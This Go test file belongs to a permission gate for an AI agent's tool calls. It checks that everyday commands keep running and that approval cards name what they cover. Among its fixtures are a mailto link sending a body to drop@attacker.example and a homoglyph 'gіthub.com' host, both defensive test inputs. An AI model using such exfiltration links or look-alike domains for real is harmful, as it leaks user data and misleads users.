package gate_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wrasse-app/wrasse/brain/gate"
)

// Everyday calls near the rules still run or ask once, and the cards say
// what they cover.

// What the a5 fixes must leave alone: everyday calls near the attacks
// still run or ask once, and the cards say what they cover.
func TestEverydayCallsKeepRunning(t *testing.T) {
	home := t.TempDir()
	project := filepath.Join(home, "project")
	for name, body := range map[string]string{".env": "KEY=x\n", "main.go": "package main\n", "docs/a.md": "# a\n"} {
		p := filepath.Join(project, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("main.go", filepath.Join(project, "link.go")); err != nil {
		t.Fatal(err)
	}
	env := gate.Env{Home: home, Folders: []string{project}, Workspace: filepath.Join(home, ".local", "share", "wrasse")}
	for _, c := range []struct {
		name string
		tool string
		args map[string]any
	}{
		{"grep limited to Go files", "fs_grep", map[string]any{"pattern": "func", "glob": "*.go"}},
		{"grep in a folder without .env", "fs_grep", map[string]any{"pattern": "a", "path": filepath.Join(project, "docs")}},
		{"read through a link to an ordinary file", "fs_read", map[string]any{"path": filepath.Join(project, "link.go")}},
		{"open a PDF", "system_open", map[string]any{"target": filepath.Join(project, "report.pdf")}},
		{"open a web address", "system_open", map[string]any{"target": "https://example.com/"}},
	} {
		if v := checkArgs(t, env, c.tool, c.args); v.Decision != gate.Allow {
			t.Errorf("%s: %s %q, want it allowed", c.name, v.Decision, v.Reasons)
		}
	}
	for _, cmd := range []string{
		"ping -c1 localhost", "dig +short example.com", "git init", "sqlite3 app.db 'select 1'", "crontab -l", "split -b 1k notes.txt",
		"vim notes.txt", "python3 -m json.tool data.json", "go run ./cmd/tool", "npx tsc --noEmit", "ln -s ../lib/x.so build/x.so",
		"cat .git/config", "awk '{print $1 > \"out.txt\"}' in.txt", "cat .editorconfig",
	} {
		if v := checkCommand(t, corpusEnv, cmd); v.AlwaysAsk || v.Decision == gate.Block {
			t.Errorf("%q: %s (always ask %v, %q), want an ordinary ask", cmd, v.Decision, v.AlwaysAsk, v.Reasons)
		}
	}
}

// The cards name what they are about: a mailto's recipients, the page
// opened, the xn-- host, and the archive's destination in the scope.
func TestCardsSayWhatTheyCover(t *testing.T) {
	v := checkArgs(t, corpusEnv, "system_open", map[string]any{"target": "mailto:drop@attacker.example?cc=b@x.example&body=k"})
	if !v.AlwaysAsk || !strings.Contains(strings.Join(v.Reasons, " "), "drop@attacker.example, b@x.example") {
		t.Errorf("mailto: always ask %v, reasons %q; want both recipients named", v.AlwaysAsk, v.Reasons)
	}
	v = checkArgs(t, corpusEnv, "system_open", map[string]any{"target": "/home/ann/project/report.html"})
	if !v.AlwaysAsk || !strings.Contains(strings.Join(v.Reasons, " "), "report.html") {
		t.Errorf("report.html: always ask %v, reasons %q", v.AlwaysAsk, v.Reasons)
	}
	v = checkArgs(t, corpusEnv, "web_fetch", map[string]any{"url": "https://gіthub.com/"})
	if len(v.Hosts) != 1 || !strings.HasPrefix(v.Hosts[0].Name, "xn--") {
		t.Errorf("look-alike host: %v, want its xn-- form", v.Hosts)
	}
	if !gate.HostAllowed(v.Hosts[0].Name, []string{"gіthub.com"}) || gate.HostAllowed(v.Hosts[0].Name, []string{"github.com"}) {
		t.Error("an always-allowed host is matched in its xn-- form, and only by itself")
	}
}

// Everyday commands that ask every time (over-asking; not from the a5
// fixes, but "approve for this chat" never covers them).
func TestEverydayCommandsAlwaysAsk(t *testing.T) {
	for _, cmd := range []string{
		"NODE_ENV=production npm run build",
		"RUST_LOG=debug cargo test",
		"node --version",
		"python3 --version",
	} {
		if v := checkProjectCommand(t, cmd); v.AlwaysAsk {
			t.Errorf("%q asks every time (%q); an everyday command", cmd, v.Reasons)
		}
	}
}
